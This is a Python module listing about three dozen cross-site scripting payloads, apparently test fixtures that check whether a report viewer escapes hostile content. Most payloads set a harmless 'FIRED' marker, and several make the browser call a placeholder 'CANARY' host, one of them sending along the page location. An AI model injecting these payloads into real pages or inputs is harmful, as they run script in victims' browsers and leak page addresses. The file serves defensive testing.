"""Script payloads for whoever reads a report; CANARY stands for an address at which nobody may ever knock."""

from __future__ import annotations

FIRE = "window.FIRED=1;document.title='FIRED'"
CALL = "new Image().src='http://CANARY/'+location"

PAYLOADS = [
    f"<script>{FIRE}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"</script><script>{FIRE}</script>",
    f'<img src=x onerror="{FIRE}">',
    "<img src=http://CANARY/img>",
    f'<svg onload="{FIRE}">',
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{FIRE}</script></svg>",
    "<svg><use href='http://CANARY/a.svg#x'/></svg>",
    f'"><script>{FIRE}</script>',
    f"'><script>{FIRE}</script>",
    f'" autofocus onfocus="{FIRE}" x="',
    f'<iframe srcdoc="<script>parent.{FIRE}</script>"></iframe>',
    "<iframe src=http://CANARY/frame></iframe>",
    f'<iframe src="javascript:{FIRE}"></iframe>',
    f'<details open ontoggle="{FIRE}">',
    f'<body onload="{FIRE}">',
    f'<video><source onerror="{FIRE}"></video>',
    f'<math><mtext></p><style><img src=x onerror="{FIRE}"></style></math>',
    f'<noscript><p title="</noscript><img src=x onerror={FIRE}>">',
    f'<template><script>{FIRE}</script></template><marquee onstart="{FIRE}">',
    "<meta http-equiv=refresh content='0;url=http://CANARY/refresh'>",
    "<link rel=stylesheet href=http://CANARY/style.css>",
    "<base href=http://CANARY/>",
    "<style>@import 'http://CANARY/import.css';</style>",
    "<form action=http://CANARY/form><input autofocus onfocus=this.form.submit()></form>",
    f'<object data="data:text/html,<script>{FIRE}</script>"></object>',
    f"javascript:{FIRE}",
    f"[click](javascript:{FIRE}) ![x](http://CANARY/markdown)",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{FIRE}</script><![CDATA[",
    f"--><script>{FIRE}</script><!--",
    f"</textarea></title></style></pre><script>{FIRE}</script>",
    f"{{{{constructor.constructor('{FIRE}')()}}}}",
    f"${{{FIRE}}} `-{FIRE}-` ';{FIRE};'",
    f"\u2028{FIRE}\u2029",
    f'<?xml-stylesheet href="javascript:{FIRE}"?>',
    f'<a href="jav\tascript:{FIRE}" ping=http://CANARY/ping>x</a>',
]
